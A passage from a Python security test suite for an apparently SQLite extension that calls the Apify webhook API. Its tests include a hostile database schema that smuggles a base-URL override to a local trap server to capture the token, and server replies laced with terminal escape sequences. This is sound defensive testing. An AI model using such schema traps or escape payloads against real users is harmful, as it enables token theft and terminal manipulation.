        # quote, a parenthesis and a comment opener.
        trap = RecordingServer(lambda raw: created(raw))
        self.addCleanup(trap.stop)
        for build in ("extension", "writable_schema"):
            with self.subTest(build=build):
                self.emu.reset()
                db = self.path(f"two-{build}.db")
                if self.check_file(db, "x TEXT CHECK (x <> 'it''s (not /* here') ,"
                                   f" y, CHECK (apify_config('base_url', {q(trap.base_url)})"
                                   " IS NOT NULL)", build):
                    self.victim_on(db, "main", "apify_config", trap)


# -- 5. the network around the request ---------------------------------------------------------

class RecordingServer:
    """A bare HTTP/1.1 server on 127.0.0.1 that keeps the exact bytes of every request it
    receives and answers each with answer(raw_request) -> the bytes of a whole response.
    Bounded: at most `limit` requests are answered; each connection times out after 10 s."""

    def __init__(self, answer, limit=50):
        self.answer, self.limit, self.requests = answer, limit, []
        self.times, self.connections = [], 0
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.1)
        self.base_url = f"http://127.0.0.1:{self.sock.getsockname()[1]}"
        self.stopping = False
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self):
        while not self.stopping:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            threading.Thread(target=self.handle, args=(conn,), daemon=True).start()

    def handle(self, conn):
        conn.settimeout(10)
        buf = b""
        with conn:
            try:
                while len(self.requests) < self.limit:
                    while b"\r\n\r\n" not in buf:
                        chunk = conn.recv(65536)
                        if not chunk:
                            return
                        buf += chunk
                    head, _, rest = buf.partition(b"\r\n\r\n")
                    length = 0
                    for line in head.split(b"\r\n")[1:]:
                        name, _, value = line.partition(b":")
                        if name.strip().lower() == b"content-length":
                            length = int(value.strip())
                    while len(rest) < length:
                        chunk = conn.recv(65536)
                        if not chunk:
                            return
                        rest += chunk
                    raw = head + b"\r\n\r\n" + rest[:length]
                    self.requests.append(raw)
                    self.times.append(time.monotonic())
                    buf = rest[length:]
                    conn.sendall(self.answer(raw))
            except OSError:
                return

    def stop(self):
        self.stopping = True
        self.thread.join(5)
        self.sock.close()


def reply(status, body, headers=()):
    """The bytes of a whole HTTP/1.1 response; body: bytes, or an object sent as JSON."""
    if not isinstance(body, bytes):
        body = json.dumps(body).encode()
    head = [f"HTTP/1.1 {status}".encode(), b"Content-Type: application/json",
            b"Content-Length: %d" % len(body)]
    head += [h if isinstance(h, bytes) else h.encode() for h in headers]
    return b"\r\n".join(head) + b"\r\n\r\n" + body


def request_body(raw):
    return json.loads(raw.partition(b"\r\n\r\n")[2].decode())


def created(raw, webhook_id="AbCdEfGhIjKlMnOpQ", headers=(), extra=None):
    data = dict(request_body(raw), id=webhook_id, **(extra or {}))
    return reply("201 Created", {"data": data},
                 [f"Location: https://api.apify.com/v2/webhooks/{webhook_id}", *headers])


def authorization(raw):
    for line in raw.split(b"\r\n"):
        name, _, value = line.partition(b":")
        if name.lower() == b"authorization":
            return value.strip().decode()
    return ""


class NetworkCase(unittest.TestCase):

    def setUp(self):
        self.tmp = tempfile.TemporaryDirectory()
        self.addCleanup(self.tmp.cleanup)
        self.db = os.path.join(self.tmp.name, "t.db")

    def server(self, answer, **kwargs):
        server = RecordingServer(answer, **kwargs)
        self.addCleanup(server.stop)
        return server

    def emulator(self, **kwargs):
        emu = Emulator(tokens=[VICTIM], **kwargs)
        self.addCleanup(emu.stop)
        return emu

    def victim(self, sql, base_url, env=None, db=None, **kwargs):
        environ = {"APIFY_API_BASE_URL": base_url, **(env or {})}
        return shell(PRELUDE + sql, None, db=db or self.db, token=VICTIM,
                     env=dict(environ, APIFY_TOKEN=VICTIM), **kwargs)

    def assertClean(self, text, what):
        """No token and no control character but newline and tab."""
        if isinstance(text, bytes):
            self.assertNotIn(VICTIM.encode(), text, f"token in {what}")
            return
        self.assertNotIn(VICTIM, text, f"token in {what}")
        bad = [hex(ord(c)) for c in text if (ord(c) < 0x20 and c not in "\n\t")
               or 0x7f <= ord(c) <= 0x9f]
        self.assertEqual(bad, [], f"control characters in {what}: {text!r}")


class Proxy(NetworkCase):

    def test_no_proxy_for_plain_http_to_loopback(self):
        # Every variable libcurl reads, each form of proxy; NO_PROXY empty so that none is
        # excused. Not one connection may reach the proxy: it would see the token in clear.
        proxy = self.server(lambda raw: reply("502 Bad Gateway", {"error": "proxy"}))
        emu = self.emulator()
        for scheme in ("http", "socks5", "socks5h", "socks4"):
            with self.subTest(scheme=scheme):
                emu.reset()
                url = proxy.base_url.replace("http:", scheme + ":")
                env = {"http_proxy": url, "HTTP_PROXY": url, "all_proxy": url,
                       "ALL_PROXY": url, "https_proxy": url, "HTTPS_PROXY": url,
                       "NO_PROXY": "", "no_proxy": ""}
                r = self.victim(f"SELECT apify_create_webhook({q(OWN)}) ->> 'id';\n" + ACTORS
                                + BULK + "SELECT status FROM apify_webhooks;\n", emu.base_url,
                                env=env, db=self.db + scheme)
                self.assertEqual(r.err, "", r)
                self.assertEqual(proxy.connections, 0, "the proxy was used")
                self.assertEqual(len(emu.posts()), 2)
                self.assertEqual(output(r), [emu.webhooks()[0]["id"], "created"])


def echo(raw):
    """A server that echoes the Authorization header it received: into the error type, the
    message and the body of a 400, or (for a request that mentions echo-ok) into the created
    webhook's description and a header of a 201."""
    seen = authorization(raw)
    if b"echo-ok" in raw:
        return created(raw, headers=[f"X-Seen: {seen}"], extra={"description": f"you sent {seen}"})
    return reply("400 Bad Request", {"error": {"type": f"bad-{seen}",
                                               "message": f"you sent {seen}"}, "echo": seen})


NASTY = "\x1b[2J\x1b]0;pwned\x07\x1b[31mred\r\x08\x9b1m\x00end"


def nasty(raw):
    """A server whose error types and messages (as JSON escapes, or as raw bytes in a body
    that is then not JSON), Location and stored answers hold escape sequences and other
    control characters."""
    if b"fail-raw" in raw:
        return reply("400 Bad Request", b'{"error":{"type":"bad\x1b[31m","message":"raw '
                     + NASTY.replace("\x00", "").encode() + b'"}}')
    if b"fail" in raw:
        return reply("400 Bad Request", {"error": {"type": "x" + NASTY, "message": "m" + NASTY}})
    return created(raw, headers=[b"Location: https://api.apify.com/v2/webhooks/A\x1b[2J\x07B"],
                   extra={"description": NASTY})


class ServerText(NetworkCase):
    """What a server says reaches a message or a column only cleaned: no control characters
    (they become U+FFFD), never the token (it becomes <redacted>). The table and
    apify_create_webhook are tested apart: they build their messages apart."""

    ONE = "SELECT apify_config('max_attempts', 1);\n"

    def assertFilesClean(self):
        for name in os.listdir(self.tmp.name):
            with open(os.path.join(self.tmp.name, name), "rb") as f:
                self.assertClean(f.read(), name)

    def assertColumnsClean(self):
        conn = sqlite3.connect(self.db)
        self.addCleanup(conn.close)
        rows = conn.execute("SELECT location, error_type, error_message, response"
                            " FROM apify_webhooks_store").fetchall()
        self.assertTrue(rows)
        for row in rows:
            for value in row:
                if value is not None:
                    self.assertClean(value, f"a column: {row!r}")

    def test_echoed_token_in_the_table(self):
        server = self.server(echo)
        r = self.victim(self.ONE + ACTORS + BULK
                        + BULK.replace("FROM actors", ", 'echo-ok' FROM actors").replace(
                            "actor_id)", "actor_id, description)")
                        + ".mode line\nSELECT * FROM apify_webhooks;\n", server.base_url)
        self.assertEqual(r.err, "", r)
        self.assertEqual(len(server.requests), 2)
        self.assertTrue(all(VICTIM.encode() in raw for raw in server.requests))
        self.assertIn("error_message = you sent Bearer <redacted>", stripped(r))
        self.assertClean(r.out, "stdout")
        self.assertColumnsClean()
        self.assertFilesClean()

    def test_echoed_token_from_apify_create_webhook(self):
        server = self.server(echo)
        r = self.victim(self.ONE + f"SELECT apify_create_webhook({q(OWN)});\n"
                        f"SELECT apify_create_webhook({q(dict(OWN, description='echo-ok'))})"
                        " ->> 'description';\n", server.base_url)
        self.assertEqual(len(server.requests), 2)
        self.assertEqual(errors(r), ["apify: 400 bad-Bearer <redacted>: you sent Bearer"
                                     " <redacted>"], r)
        self.assertEqual(output(r), ["1", "you sent Bearer <redacted>"])
        self.assertClean(r.out, "stdout")
        self.assertClean(r.err, "stderr")

    def test_control_characters_in_the_table(self):
        server = self.server(nasty)
        bulk = (BULK.replace("actor_id)", "actor_id, description)")
                .replace("FROM actors", ", d FROM actors, (SELECT 'ok' AS d UNION ALL"
                         " SELECT 'fail' UNION ALL SELECT 'fail-raw')"))
        r = self.victim(self.ONE + ACTORS + bulk
                        + ".mode line\nSELECT * FROM apify_webhooks;\n", server.base_url)
        self.assertEqual(r.err, "", r)
        self.assertEqual(len(server.requests), 3, r)
        self.assertIn("error_type = x\ufffd[2J\ufffd]0;pwned\ufffd\ufffd[31mred\ufffd"
                      "\ufffd\ufffd1m", stripped(r))
        self.assertClean(r.out, "stdout")
        self.assertColumnsClean()

    def test_control_characters_from_apify_create_webhook(self):
        server = self.server(nasty)
        r = self.victim(self.ONE + "".join(
            f"SELECT apify_create_webhook({q(dict(OWN, description=d))}) ->> 'id';\n"
            for d in ("ok", "fail", "fail-raw")), server.base_url)
        self.assertEqual(len(server.requests), 3, r)
        self.assertEqual(r.err.count("Runtime error near line "), 2, r)
        self.assertEqual(output(r), ["1", "AbCdEfGhIjKlMnOpQ"])
        self.assertClean(r.out, "stdout")
        self.assertClean(r.err, "stderr")


class KeyLog(NetworkCase):

    def test_sslkeylogfile_set_refuses_https(self):
        cert, key = self_signed_cert(self.tmp.name)
        emu = Emulator(tokens=[VICTIM], tls=(cert, key))
        self.addCleanup(emu.stop)
        keys = os.path.join(self.tmp.name, "keys.log")
        trust = f"SELECT apify_config('ca_file', {q(str(cert))});\n"
        work = (f"SELECT apify_create_webhook({q(OWN)}) ->> 'id';\n" + ACTORS + BULK
                + "SELECT count(*) FROM apify_webhooks;\n")
        message = (f'apify: SSLKEYLOGFILE is set, so libcurl would write the keys of the TLS'
                   f' sessions that carry your token to "{keys}"; unset it to send')
        r = self.victim(trust + work, emu.base_url, env={"SSLKEYLOGFILE": keys})
        self.assertEqual(len(errors(r)), 2, r)
        for line in errors(r):
            self.assertTrue(line.startswith(message), r)
        self.assertEqual(output(r), [str(cert), "0"])
        self.assertEqual(emu.log(), [])
        self.assertFalse(os.path.exists(keys) and os.path.getsize(keys), "keys were written")
        # Unset, the same work goes through.
        r = self.victim(trust + work, emu.base_url, env={"SSLKEYLOGFILE": ""})
        self.assertEqual(r.err, "", r)
        self.assertEqual(output(r)[-1], "1")
        self.assertEqual(len(emu.posts()), 2)


# -- 6. stalls ---------------------------------------------------------------------------------

class Stalls(NetworkCase):

    def session(self, emu):
        """A victim connection with max_retry_time_ms 2000, and timed(sql) -> (seconds,
        error message or None)."""
        conn = connect(emu, token=VICTIM, isolation_level=None)
        self.addCleanup(conn.close)
        conn.execute("SELECT apify_config('max_retry_time_ms', 2000)")
        conn.executescript(ACTORS)

        def timed(sql):
            start = time.monotonic()
            try:
                conn.execute(sql).fetchall()
                error = None
            except sqlite3.Error as err:
                error = str(err)
            return time.monotonic() - start, error
        return conn, timed

    def test_a_huge_retry_after_is_bounded_by_max_retry_time(self):
        # 429 with Retry-After: 86400. The statement that hears it ends within about
        # max_retry_time_ms, and what it heard holds the connection no longer than that bound
        # after it: the next statement, from the first one's start, within 2 s and a margin
        # (2 s: slow hosts, sanitizer builds).
        emu = self.emulator(retry_after=86400)
        conn, timed = self.session(emu)
        emu.configure(script=["429"] * 20)
        first, error = timed(f"SELECT apify_create_webhook({q(OWN)})")
        self.assertLess(first, 4.0, error)
        self.assertEqual(error, "apify: 429 rate-limit-exceeded: You have exceeded the rate"
                                " limit of 60 requests per second")
        emu.configure(script=[])
        second, error = timed(f"SELECT apify_create_webhook({q(OWN)})")
        self.assertIsNone(error)
        self.assertLess(first + second, 4.0, "the pause outlived its bound")
        # The same through the table: the row fails within the bound, the retry recipe then
        # creates it without waiting out the server's day.
        emu.configure(script=["429"] * 20)
        first, error = timed(BULK)
        self.assertLess(first, 4.0, error)
        self.assertIsNone(error)
        self.assertEqual(conn.execute("SELECT status, http_status FROM apify_webhooks").fetchall(),
                         [("failed", 429)])
        emu.configure(script=[])
        second, error = timed(RETRY)
        self.assertIsNone(error)
        self.assertLess(first + second, 4.0, "the pause outlived its bound")
        self.assertEqual(conn.execute("SELECT status FROM apify_webhooks").fetchall(),
                         [("created",)])
        self.assertEqual(len(emu.posts()), 4)

    def test_a_pause_does_not_stall_the_next_statement(self):
        # The statement that heard the 429 ends at once (no attempt may start past the bound);
        # the next statement, a new request of the user's, must not then sit out the rest of
        # that pause (task H: "the next statement is not stalled").
        emu = self.emulator(retry_after=86400)
        conn, timed = self.session(emu)
        emu.configure(script=["429"])
        first, error = timed(f"SELECT apify_create_webhook({q(OWN)})")
        self.assertIsNotNone(error)
        second, error = timed(f"SELECT apify_create_webhook({q(OWN)})")
        self.assertIsNone(error)
        self.assertLess(second, 1.0, f"the next statement waited {second:.2f} s for a pause"
                                     f" heard by a statement that ended after {first:.2f} s")

    def test_a_tiny_rate_limit_is_floored(self):
        counter = iter(range(1000))
        server = self.server(lambda raw: created(
            raw, webhook_id=f"Hook{next(counter):05d}", headers=["X-RateLimit-Limit: 0.0001"]))
        proc = start_shell(PRELUDE + "CREATE TABLE actors(actor_id TEXT);\n"
                           "INSERT INTO actors VALUES ('a1'),('a2'),('a3'),('a4'),('a5'),('a6');\n"
                           + BULK + "SELECT count(*) FROM apify_webhooks"
                           " WHERE status = 'created';\n", db=self.db, token=VICTIM,
                           env={"APIFY_API_BASE_URL": server.base_url, "APIFY_TOKEN": VICTIM})
        start = time.monotonic()
        try:
            out, err = proc.communicate(timeout=20)
        except Exception:
            proc.kill()
            out, err = proc.communicate(timeout=10)
        elapsed = time.monotonic() - start
        self.assertEqual(err, "")
        self.assertEqual([x for x in out.splitlines() if x.strip() != "defensive on"], ["6"])
        self.assertEqual(len(server.requests), 6)
        self.assertLess(server.times[4] - server.times[0], 15.0)
        self.assertLess(elapsed, 15.0)


# -- 7. the no-token message -------------------------------------------------------------------

class NoToken(HostileCase):

    def test_no_token_message_does_not_suggest_sql(self):
        r = self.victim(ACTORS + BULK + f"SELECT apify_create_webhook({q(OWN)});\n"
                        "UPDATE apify_webhooks SET description = 'x';\n"
                        "DELETE FROM apify_webhooks;\n", token=None)
        self.assertEqual(errors(r), [NO_TOKEN, NO_TOKEN], r)
        for text in (r.out, r.err):
            self.assertNotIn("apify_config('token'", text)
            self.assertNotIn("SELECT", text)
        self.assertEqual(self.emu.log(), [])


if __name__ == "__main__":
    unittest.main()
